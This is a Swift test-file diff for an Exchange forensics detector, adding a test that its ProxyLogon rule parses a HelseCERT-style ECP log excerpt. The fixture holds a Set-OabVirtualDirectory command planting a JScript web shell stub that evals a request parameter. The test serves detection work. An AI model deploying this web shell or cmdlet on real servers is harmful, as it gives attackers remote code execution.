@@ -1,3 +1,4 @@
+import Foundation
 @testable import ExchangeDetection
 import ExchangeEvidence
 import Testing
@@ -106,6 +107,23 @@ import Testing
         // The cmdlet log's forms: quoted, and unquoted up to the next parameter.
         #expect(VirtualDirectoryCommand.scriptedUrl(in: "Set-OabVirtualDirectory -Identity 'EX01\\OAB' -ExternalUrl 'http://f/<script language=\"JScript\">x</script>'")?.parameter == "ExternalUrl")
         #expect(VirtualDirectoryCommand.scriptedUrl(in: "Set-OabVirtualDirectory -ExternalUrl http://f/<script language=\"JScript\" runat=\"server\">x</script> -Identity x") != nil)
+    }
+
+    /// HelseCERT's two-column excerpt wraps EventData in `'…'` and keeps the log's `""`: the summary quotes the
+    /// value as the ECP log held it (reviewer: `language=""JScript""`).
+    @Test func theExcerptsQuotingIsUndoneInTheSummary() throws {
+        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("exhunt-helsecert-\(UUID().uuidString)")
+        defer { try? FileManager.default.removeItem(at: dir) }
+        let file = dir.appendingPathComponent("EX01/ECP/Server/ECPServer20210303-1.LOG")
+        try FileManager.default.createDirectory(at: file.deletingLastPathComponent(), withIntermediateDirectories: true)
+        let line = #"2021-03-03T06:49:53.772Z,'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""klk123456""],""unsafe"");}</script>''.Identity=''982d48c8'''"#
+        try (line + "\n").write(to: file, atomically: true, encoding: .utf8)
+        let s = EventStore()
+        _ = try EvidenceLoader().load(dir.path, into: s)
+        let f = try #require(RuleFixtures.run("proxylogon.ecp-set-vdir", on: s).first)
+        #expect(f.summary == #"Set-OabVirtualDirectory ExternalUrl='http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["klk123456"],"unsafe");}</script>'"#,
+                "\(f.summary)")
+        #expect(CSVLine.unquotedTail(#""a,""b""""#) == #"a,"b""# && CSVLine.unquotedTail("S:CMD=x") == "S:CMD=x")
     }
 
     @Test func oabDownloadOutsideTheOABFolderFiresForUNCLocalAndTraversal() {
